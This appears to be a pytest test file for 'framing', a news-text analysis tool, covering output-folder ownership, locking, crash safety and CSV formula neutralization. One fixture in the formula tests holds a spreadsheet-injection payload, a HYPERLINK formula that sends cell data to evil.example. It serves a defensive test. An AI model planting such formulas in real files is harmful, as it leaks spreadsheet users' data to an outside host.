"""What framing promises about the user's files (docs/guarantees.md): it replaces or removes only what it made,
never reads its own output back as input, lets one run at a time write into a folder, leaves the previous
tables whole when a run fails, and writes no cell a spreadsheet would run as a formula."""

import json
import os
import socket
import subprocess
import sys
import threading

import pandas as pd
import pytest

import framing
from framing import tables
from framing.cli import main
from framing.errors import (FramingError, InputNotFoundError, OutputLockedError, OutputNotOwnedError, RunError,
                            StaleLockWarning)
from framing.run import analyze_to_tables, engines

STORIES = ["Police said the gang was dangerous.", "The minister disagreed with the police view.",
           "Officers may make more arrests, it is believed."]
UNIT = 40  # input bytes per unit: each story is a unit of its own

from conftest import interrupt_at


def _corpus(folder, n=3, word="Story"):
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        (folder / f"story{i}.txt").write_text(f"{STORIES[i % 3]} {word} {i}.", encoding="utf-8")
    return folder


def _files(folder):
    """Every file under ``folder`` (names relative to it) with its bytes."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _tables(out):
    return {name: (out / name).read_bytes() for name in [*tables.FILES.values(), tables.RUN_FILE]}



def _run(corpus, out, **options):
    return analyze_to_tables([corpus], out, progress=False, unit_bytes=UNIT, **options)


# ---- 1. framing replaces or removes only what it made --------------------------------------------------------

def test_regression_a_run_never_deletes_folders_it_did_not_create(tmp_path):
    study = tmp_path / "study"
    _corpus(study / "texts")
    mine = {"documents/notes.md": "x", "sentences/a.txt": "y", "hits/b.txt": "z", "errors/c.txt": "w",
            ".parts/d.txt": "v", ".framing-split/e.txt": "u"}
    for name, text in mine.items():
        (study / name).parent.mkdir(parents=True, exist_ok=True)
        (study / name).write_text(text, encoding="utf-8")
    summary = _run(study / "texts", study)
    assert summary.n_documents == 3
    for name, text in mine.items():
        assert (study / name).read_text(encoding="utf-8") == text
    assert len(list((study / "texts").iterdir())) == 3


def test_regression_a_parquet_run_refuses_a_table_folder_it_did_not_make(tmp_path):
    study = tmp_path / "study"
    _corpus(study / "texts")
    (study / "documents").mkdir()
    (study / "documents" / "notes.md").write_text("my notes", encoding="utf-8")
    before = _files(study)
    with pytest.raises(OutputNotOwnedError, match=r"study/documents exists and framing did not make it"):
        _run(study / "texts", study, fmt="parquet")
    # nothing written, nothing removed: not even a lock or a work folder left behind
    assert _files(study) == before and sorted(p.name for p in study.iterdir()) == ["documents", "texts"]


def test_regression_a_run_does_not_overwrite_a_table_file_it_did_not_write(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "documents.csv").write_text("my own spreadsheet\n", encoding="utf-8")
    with pytest.raises(OutputNotOwnedError, match=r"out/documents.csv exists and framing did not write it"):
        _run(_corpus(tmp_path / "corpus"), out)
    assert (out / "documents.csv").read_text(encoding="utf-8") == "my own spreadsheet\n"


def test_a_run_replaces_the_tables_it_wrote_in_either_format(tmp_path):
    corpus = _corpus(tmp_path / "corpus", n=3)
    out = tmp_path / "out"
    _run(corpus, out, fmt="parquet")
    assert tables.owns_folder(out / "documents") and len(list((out / "documents").glob("*.parquet"))) == 3
    (corpus / "story2.txt").unlink()
    summary = _run(corpus, out, fmt="parquet")  # fewer units: no part of the first run may stay
    assert sorted(p.name for p in (out / "documents").glob("*.parquet")) == ["part-000000.parquet",
                                                                               "part-000001.parquet"]
    assert summary.n_documents == 2 and len(framing.load_analysis(out).documents) == 2
    _run(corpus, out)  # CSV now: the Parquet folders framing made go, so they cannot be read instead
    assert not (out / "documents").exists() and len(framing.load_analysis(out).documents) == 2
    _run(corpus, out, fmt="parquet")  # and back: documents.csv, framing's, goes
    assert not (out / "documents.csv").exists() and (out / "documents").is_dir()


def test_removing_a_folder_refuses_one_framing_did_not_make(tmp_path):
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "keep.txt").write_text("keep", encoding="utf-8")
    with pytest.raises(OutputNotOwnedError, match="did not make it"):
        tables.remove_owned_folder(tmp_path / "theirs")
    tables.make_owned_folder(tmp_path / "ours")
    (tmp_path / "ours" / "part.jsonl").write_text("{}", encoding="utf-8")
    tables.remove_owned_folder(tmp_path / "ours")
    assert (tmp_path / "theirs" / "keep.txt").exists() and not (tmp_path / "ours").exists()


# ---- 2. framing's output is not input --------------------------------------------------------------------

def test_regression_an_output_folder_inside_the_corpus_is_not_read_back(tmp_path):
    corpus = _corpus(tmp_path / "corpus")
    first = _run(corpus, corpus / "out")
    ids = pd.read_csv(corpus / "out" / "documents.csv").doc_id.tolist()
    second = _run(corpus, corpus / "out")
    assert first.n_documents == second.n_documents == 3 and second.n_errors == 0
    assert pd.read_csv(corpus / "out" / "documents.csv").doc_id.tolist() == ids
    assert len(framing.analyze(corpus).documents) == 3


def test_regression_tables_written_into_the_corpus_folder_itself_are_not_read_back(tmp_path):
    corpus = _corpus(tmp_path / "corpus")
    (corpus / "notes.csv").write_text("text\nThe police said nothing more.\n", encoding="utf-8")
    first = _run(corpus, corpus)
    second = _run(corpus, corpus)
    assert first.n_documents == second.n_documents == 4  # the three stories and the user's own CSV
    marker = json.loads((corpus / tables.OWNER_MARKER).read_text(encoding="utf-8"))
    assert marker["owner"] == "framing" and not marker["whole_folder"] and "documents.csv" in marker["files"]


# ---- 3. one run at a time in a folder ---------------------------------------------------------------------

def test_regression_a_second_run_into_a_busy_folder_fails_at_once_naming_the_first(tmp_path, monkeypatch):
    corpus = _corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    original = engines.process_unit
    inside, release = threading.Event(), threading.Event()

    def slow(unit, options, *after):
        inside.set()
        assert release.wait(60), "the test never released the first run"
        return original(unit, options, *after)

    monkeypatch.setattr(engines, "process_unit", slow)
    first: dict = {}
    thread = threading.Thread(target=lambda: first.update(summary=_run(corpus, out, arguments=["analyze", "A"])))
    thread.start()
    try:
        assert inside.wait(60)
        with pytest.raises(OutputLockedError, match=rf"in use by framing run {os.getpid()} on "
                                                    rf"{socket.gethostname()}, since .* \(analyze A\)"):
            _run(_corpus(tmp_path / "other", n=2, word="Other"), out)
    finally:
        release.set()
        thread.join()
    assert first["summary"].n_documents == 3
    assert pd.read_csv(out / "documents.csv").doc_id.tolist() == ["story0", "story1", "story2"]
    assert not (out / tables.LOCK_FILE).exists()


def test_a_lock_of_another_host_is_not_taken_over(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    holder = {"pid": 1, "host": "elsewhere.example", "started": "2024-01-01T00:00:00+00:00", "command": ["x"]}
    (out / tables.LOCK_FILE).write_text(json.dumps(holder), encoding="utf-8")
    with pytest.raises(OutputLockedError,
                       match=r"run 1 on elsewhere.example, since 2024-01-01.*delete .*\.framing-lock"):
        _run(_corpus(tmp_path / "corpus"), out)
    assert json.loads((out / tables.LOCK_FILE).read_text(encoding="utf-8")) == holder


def test_regression_a_stale_lock_of_a_dead_run_is_taken_over_with_a_warning(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    out = tmp_path / "out"
    out.mkdir()
    (out / tables.LOCK_FILE).write_text(json.dumps({"pid": dead.pid, "host": socket.gethostname(),
                                                    "started": "2024-01-01T00:00:00+00:00",
                                                    "command": ["analyze"]}), encoding="utf-8")
    with pytest.warns(StaleLockWarning, match=rf"took over the lock of framing run {dead.pid}"):
        summary = _run(_corpus(tmp_path / "corpus"), out)
    assert summary.n_documents == 3 and not (out / tables.LOCK_FILE).exists()


def test_the_lock_goes_when_a_run_fails_or_is_interrupted(tmp_path, monkeypatch):
    corpus = _corpus(tmp_path / "corpus")
    with pytest.raises(FramingError):
        _run(corpus, tmp_path / "bad", lexicons=[tmp_path / "no-such-lexicon.tsv"])
    assert not (tmp_path / "bad").exists()  # a bad option stops the run before anything is written
    interrupt_at(monkeypatch, 1)
    with pytest.raises(RunError, match="--resume"):
        _run(corpus, tmp_path / "out")
    assert not (tmp_path / "out" / tables.LOCK_FILE).exists()


# ---- 4. a failed run leaves the previous tables whole -----------------------------------------------------

def test_regression_a_read_only_table_stops_the_run_and_the_old_tables_stay_whole(tmp_path):
    out = tmp_path / "out"
    _run(_corpus(tmp_path / "a"), out)
    before = _tables(out)
    (out / "documents.csv").chmod(0o444)
    try:
        with pytest.raises(OutputNotOwnedError, match=r"out/documents.csv is read-only"):
            _run(_corpus(tmp_path / "b", word="Other"), out)
    finally:
        (out / "documents.csv").chmod(0o644)
    assert _tables(out) == before


def test_regression_an_interrupted_run_leaves_the_previous_tables_whole(tmp_path, monkeypatch):
    new = _corpus(tmp_path / "b", n=3, word="Other")
    _run(new, tmp_path / "reference")
    out = tmp_path / "out"
    _run(_corpus(tmp_path / "a"), out)
    before = _tables(out)
    original = interrupt_at(monkeypatch, 2)
    with pytest.raises(RunError, match=r"are as they were, and what was finished is kept in .*\.framing-work"):
        _run(new, out)
    assert _tables(out) == before  # run.json included: still the first run's
    monkeypatch.setattr(engines, "process_unit", original)
    summary = _run(new, out, resume=True)
    assert summary.resumed_units == 2
    assert {k: v for k, v in _tables(out).items() if k != "run.json"} == \
        {k: v for k, v in _tables(tmp_path / "reference").items() if k != "run.json"}
    assert not (out / tables.WORK_FOLDER).exists()


def test_a_rename_failing_at_the_end_puts_the_old_tables_back(tmp_path, monkeypatch):
    out = tmp_path / "out"
    _run(_corpus(tmp_path / "a"), out)
    before = _tables(out)
    new = _corpus(tmp_path / "b", word="Other")
    real_replace = os.replace
    failed = []

    def failing(source, target):  # the new hits.csv cannot be put in place, once
        if str(target) == str(out / "hits.csv") and ".framing-work" in str(source) and not failed:
            failed.append(target)
            raise PermissionError(13, "Permission denied", str(target))
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", failing)
    with pytest.raises(RunError, match=r"could not put .*hits.csv in place.*as they were"):
        _run(new, out)
    monkeypatch.setattr(os, "replace", real_replace)
    assert _tables(out) == before
    summary = _run(new, out, resume=True)  # the finished tables wait in the work folder
    assert summary.resumed_units == 3 and "Other" in (out / "texts.jsonl").read_text(encoding="utf-8")


def test_regression_resume_refuses_tables_shorter_than_recorded(tmp_path, monkeypatch):
    # a power cut can lose rows written before the manifest that records them: padding with zeros is no resume
    corpus = _corpus(tmp_path / "corpus")
    original = interrupt_at(monkeypatch, 2)
    with pytest.raises(RunError, match="--resume"):
        _run(corpus, tmp_path / "out")
    sentences = tmp_path / "out" / tables.WORK_FOLDER / "sentences.csv"
    sentences.write_bytes(sentences.read_bytes()[:-10])
    monkeypatch.setattr(engines, "process_unit", original)
    with pytest.raises(RunError, match=r"sentences.csv of the interrupted run are shorter than what was recorded"):
        _run(corpus, tmp_path / "out", resume=True)
    assert b"\0" not in sentences.read_bytes()


def test_library_callers_may_give_paths_in_the_command(tmp_path):
    summary = _run(_corpus(tmp_path / "corpus"), tmp_path / "out", arguments=["analyze", tmp_path / "corpus"])
    assert summary.n_documents == 3 and not (tmp_path / "out" / tables.LOCK_FILE).exists()


# ---- 5. no cell a spreadsheet would run -------------------------------------------------------------------

FORMULA_RECORDS = [
    {"title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "text": "Police said the gang fled."},
    {"title": "+44 20 7946 0000", "text": "-5 officers were hurt, police said. @minister denied it."},
    {"title": "'=already quoted", "text": "The gang was dangerous, police said."},
]


def _formula_corpus(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "feed.jsonl").write_text("".join(json.dumps(r) + "\n" for r in FORMULA_RECORDS), encoding="utf-8")
    return folder


def test_regression_formula_cells_are_neutralized_in_csv_tables(tmp_path):
    corpus = _formula_corpus(tmp_path / "corpus")
    analyze_to_tables([corpus], tmp_path / "out", progress=False)
    documents = pd.read_csv(tmp_path / "out" / "documents.csv", keep_default_na=False)
    assert documents.title.tolist() == ["'" + FORMULA_RECORDS[0]["title"], "'+44 20 7946 0000",
                                        "''=already quoted"]
    sentences = pd.read_csv(tmp_path / "out" / "sentences.csv", keep_default_na=False)
    assert {"'-5 officers were hurt, police said.", "'@minister denied it."} <= set(sentences.text)
    texts = [value for table in (documents, sentences) for column in table for value in table[column]
             if isinstance(value, str)]
    assert texts and not [text for text in texts if text.startswith(tuple("=+-@\t\r"))]
    assert (sentences.sentiment < 0).any()  # negative numbers stay numbers: not quoted, not text
    assert json.loads((tmp_path / "out" / "run.json").read_text())["neutralized_formulas"] is True
    back = framing.load_analysis(tmp_path / "out")  # reading the tables back gives the exact text
    assert back.documents.title.tolist() == [r["title"] for r in FORMULA_RECORDS]
    assert back.documents.title.tolist() == framing.analyze(corpus).documents.title.tolist()


def test_formulas_are_kept_exact_in_parquet_the_api_and_on_request(tmp_path):
    corpus = _formula_corpus(tmp_path / "corpus")
    titles = [r["title"] for r in FORMULA_RECORDS]
    assert framing.analyze(corpus).documents.title.tolist() == titles
    analyze_to_tables([corpus], tmp_path / "pq", fmt="parquet", progress=False)
    assert pd.read_parquet(tmp_path / "pq" / "documents").title.tolist() == titles
    assert main(["analyze", str(corpus), "--out", str(tmp_path / "kept"), "--no-progress", "--keep-formulas"]) == 0
    assert pd.read_csv(tmp_path / "kept" / "documents.csv", keep_default_na=False).title.tolist() == titles
    assert framing.load_analysis(tmp_path / "kept").documents.title.tolist() == titles


def test_write_tables_neutralizes_and_load_analysis_restores(tmp_path):
    analysis = framing.analyze(_formula_corpus(tmp_path / "corpus"))
    framing.write_tables(analysis, tmp_path / "t")
    written = pd.read_csv(tmp_path / "t" / "documents.csv", keep_default_na=False)
    assert written.title.tolist() == ["'" + r["title"] if r["title"][0] in "=+'" else r["title"]
                                      for r in FORMULA_RECORDS]
    back = framing.load_analysis(tmp_path / "t")
    assert back.documents.title.tolist() == analysis.documents.title.tolist()
    assert back.sentences.text.tolist() == analysis.sentences.text.tolist()


@pytest.mark.parametrize("text", ["=1+2", "+", "-x", "@a", "\tx", "\rx", "'=x", "''-x", "'", "'x", "'Tis",
                                  "", "plain", "a=b", "-0.45"])
def test_neutralizing_a_cell_can_always_be_undone(text):
    written = tables.neutralize_formula(text)
    assert written[:1] not in tables.FORMULA_STARTS
    assert tables.restore_formula(written) == text
    assert (written == text) == (text[:1] not in tables.FORMULA_STARTS and not text.startswith("'")
                                 or text in ("'", "'x", "'Tis"))


def test_numbers_are_never_neutralized():
    assert tables.neutralize_formula(-0.45) == -0.45 and tables.neutralize_formula(-3) == -3


# ---- 6. --resume notices an input edited in place --------------------------------------------------------

def test_regression_resume_refuses_a_file_edited_in_place_at_the_same_size(tmp_path, monkeypatch):
    corpus = _corpus(tmp_path / "corpus")
    original = interrupt_at(monkeypatch, 2)
    with pytest.raises(RunError, match="--resume"):
        _run(corpus, tmp_path / "out")
    story = corpus / "story0.txt"
    text = story.read_text(encoding="utf-8")
    story.write_text(text.replace("dangerous", "harmless!"), encoding="utf-8")  # same size, analysed already
    assert len(story.read_bytes()) == len(text.encode())
    monkeypatch.setattr(engines, "process_unit", original)
    with pytest.raises(RunError, match="other inputs or options"):
        _run(corpus, tmp_path / "out", resume=True)


def test_regression_resume_refuses_a_lexicon_edited_since_the_interrupted_run(tmp_path, monkeypatch):
    corpus = _corpus(tmp_path / "corpus")
    lexicon = tmp_path / "mine.tsv"
    lexicon.write_text("pattern\tcategory\texplanation\tsource\ngang\tgroup\tA group.\tme\n", encoding="utf-8")
    original = interrupt_at(monkeypatch, 2)
    with pytest.raises(RunError, match="--resume"):
        _run(corpus, tmp_path / "out", lexicons=[lexicon])
    lexicon.write_text("pattern\tcategory\texplanation\tsource\npolice\tgroup\tA group.\tme\n", encoding="utf-8")
    monkeypatch.setattr(engines, "process_unit", original)
    with pytest.raises(RunError, match="other inputs or options"):
        _run(corpus, tmp_path / "out", lexicons=[lexicon], resume=True)


# ---- 7, 8. bad arguments stop the run before it starts ------------------------------------------------------

@pytest.mark.parametrize("jobs", [0, -1])
def test_regression_jobs_below_one_are_refused(tmp_path, jobs):
    with pytest.raises(RunError, match=rf"jobs must be .* 1 or more \(got {jobs}\)"):
        _run(_corpus(tmp_path / "corpus"), tmp_path / "out", jobs=jobs)
    assert not (tmp_path / "out").exists()


def test_regression_cli_jobs_below_one_exits_two_with_the_reason(tmp_path, capsys):
    assert main(["analyze", str(_corpus(tmp_path / "corpus")), "--out", str(tmp_path / "out"), "--jobs", "-1",
                 "--no-progress"]) == 2
    assert "jobs must be" in capsys.readouterr().err


def test_regression_analyze_of_a_missing_path_raises_naming_it(tmp_path, capsys):
    missing = tmp_path / "no-such-corpus"
    with pytest.raises(InputNotFoundError, match=r"no-such-corpus: no such file or directory"):
        framing.analyze(missing)
    with pytest.raises(FramingError, match="no-such-corpus"):
        framing.analyze([_corpus(tmp_path / "corpus"), missing])
    assert main(["analyze", str(missing), "--out", str(tmp_path / "out"), "--no-progress"]) == 2
    assert "no-such-corpus: no such file or directory" in capsys.readouterr().err


def test_a_path_that_exists_but_holds_nothing_readable_is_listed_in_errors(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "empty.txt").write_text("", encoding="utf-8")
    analysis = framing.analyze(tmp_path / "in")
    assert analysis.documents.empty and analysis.errors.source.str.endswith("empty.txt").tolist() == [True]
